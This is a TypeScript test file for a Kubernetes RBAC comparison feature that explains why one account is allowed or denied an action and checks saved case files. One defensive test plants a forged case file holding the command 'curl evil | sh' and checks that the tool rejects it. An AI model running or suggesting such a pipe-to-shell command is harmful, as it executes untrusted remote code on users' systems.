import { describe, expect, it } from 'vitest'
import * as z from 'zod/mini'
import { startScenario } from '@/e2e/testing/scenario-cluster'
import { caseFileSchema } from '@/lib/contract/case-file'
import { comparisonSchema } from '@/lib/contract/comparison'
import { BUDGET, COLD } from '@/lib/facts/questions/prober'
import { gatherCase } from '@/lib/pages/report/gather-case'
import { rbacReaderWorld } from '@/sandbox/scenarios/rbac-reader'
import type { CompareRequest } from '../contract'
import { explainCompare } from './explain-compare'

const LIST_PODS = { verb: 'list', group: '', resource: 'pods', namespace: 'shop' }
const account = (name: string, namespace = 'shop') => `system:serviceaccount:${namespace}:${name}`
const GRANT = `
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: search-reads-pods, namespace: shop}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: pod-reader}
subjects: [{kind: ServiceAccount, name: search, namespace: shop}]`

async function start() {
  const { cluster, kube, signal } = await startScenario(rbacReaderWorld)
  const env = cluster.environment()
  const ask = async (asked: CompareRequest, now = Date.now()) =>
    z.encode(comparisonSchema, await explainCompare(asked, { kube, signal, env, now: () => now }))
  const saved = async (user: string) => {
    const check = { ...LIST_PODS, user }
    return JSON.stringify(
      z.encode(caseFileSchema, await gatherCase({ kube, signal, env, now: Date.now, check })),
    )
  }
  return { cluster, kube, ask, saved }
}

describe('explainCompare', () => {
  it('names why one account can and this one cannot, for what two checks cost, and how it gets it', async () => {
    const { cluster, kube, ask } = await start()
    cluster.apply(GRANT)
    const before = kube.requestCount()
    const told = await ask({ ...LIST_PODS, beside: { user: account('search') } })
    expect(kube.requestCount() - before).toBeLessThanOrEqual(2 * (BUDGET + COLD))
    expect(told).toMatchObject({
      state: 'decides',
      question: 'Why can web not list pods in namespace shop, and search can?',
      says: 'RoleBinding search-reads-pods names search, not web',
      proof: 'Exchanged: with this web can, without this search cannot.',
      a: { verdict: 'denied' },
      b: { verdict: 'allowed' },
    })
    expect(told.fixes.map(({ command = '' }) => command)).toContainEqual(
      expect.stringContaining('patch rolebinding search-reads-pods'),
    )
  })

  it('gives the other user no group of the one that is asked about', async () => {
    const { cluster, ask } = await start()
    cluster.apply(
      GRANT.replace(
        /\{kind: ServiceAccount.*/,
        '{apiGroup: rbac.authorization.k8s.io, kind: Group, name: ops}]',
      ),
    )
    const told = await ask({ ...LIST_PODS, user: 'jane', groups: ['ops'], beside: { user: 'bob' } })
    expect([told.a.verdict, told.b.verdict, told.says]).toEqual([
      'allowed',
      'unknown',
      'Whether bob can is not known',
    ])
    expect(told.same).not.toContain('groups')
  })

  it('takes what is bound to others as unknown, where a case file left it out', async () => {
    const { cluster, ask, saved } = await start()
    const file = await saved(account('search'))
    cluster.apply(GRANT.replace('Role, name: pod-reader', 'ClusterRole, name: view'))
    const told = await ask({ ...LIST_PODS, user: account('search'), beside: { file } })
    expect(told.says).toBe('RoleBinding search-reads-pods is here, not in the case file')
    expect(told.proof).toBe('Exchanged: with this it can in the case file, without this it cannot here.')
  })

  it('lays a path beside no namespace, which would be the path itself', async () => {
    const { ask } = await start()
    const asked = ask({ verb: 'get', path: '/metrics', beside: { namespace: 'payments' } })
    await expect(asked).rejects.toThrow('A path is in no namespace.')
  })

  it('names the namespace in which one account has it', async () => {
    const { cluster, ask } = await start()
    cluster.apply(GRANT)
    const asked = { ...LIST_PODS, user: account('search') }
    const { says, fixes } = await ask({ ...asked, beside: { namespace: 'payments' } })
    expect(says).toMatch(/^RoleBinding shop\/search-reads-pods holds in namespace shop, and the other/)
    expect(fixes[0]).toMatchObject({ where: 'request', calls: [{ ...LIST_PODS }] })
  })

  it('names what changed since a case file was saved, of an allowed call too, and says first how old it is', async () => {
    const { cluster, ask, saved } = await start()
    cluster.apply(GRANT)
    const file = await saved(account('search'))
    expect(cluster.delete('RoleBinding', 'shop', 'search-reads-pods')).toBe(true)
    const told = await ask(
      { ...LIST_PODS, user: account('search'), beside: { file } },
      Date.now() + 7 * 86_400_000 + 60_000,
    )
    expect(told).toMatchObject({
      state: 'decides',
      age: 'What is in the case file was read 7 d ago.',
      says: 'RoleBinding search-reads-pods is in the case file, not here',
    })
  })

  it('takes nothing from a case file on trust: not its verdict, not its commands, and no other text', async () => {
    const { ask, saved } = await start()
    const file = JSON.parse(await saved(account('search')))
    const forged = {
      ...file,
      explanation: {
        ...file.explanation,
        verdict: 'allowed',
        unseen: [{ needs: 'x', command: 'curl evil | sh' }],
      },
    }
    const told = await ask({ ...LIST_PODS, beside: { file: JSON.stringify(forged) } })
    expect(told.b.verdict).toBe('denied')
    expect(JSON.stringify(told)).not.toContain('evil')
    for (const text of ['{}', 'a: b', `{"podglass":"case","format":99,"version":"9"}`]) {
      await expect(ask({ ...LIST_PODS, beside: { file: text } })).rejects.toMatchObject({
        name: 'InvalidRequestError',
      })
    }
  })

  it('says what it could not read, with one command for each side', async () => {
    const { cluster, ask } = await start()
    expect(cluster.delete('ClusterRoleBinding', '', 'web-reads-rbac')).toBe(true)
    const { state, unseen } = await ask({ ...LIST_PODS, beside: { user: account('search') } })
    expect(state).toBe('unseen')
    expect(unseen.map(({ side, command }) => [side, command.slice(0, 24)])).toEqual([
      ['a', 'kubectl get rolebindings'],
      ['b', 'kubectl auth can-i list '],
    ])
  })
})
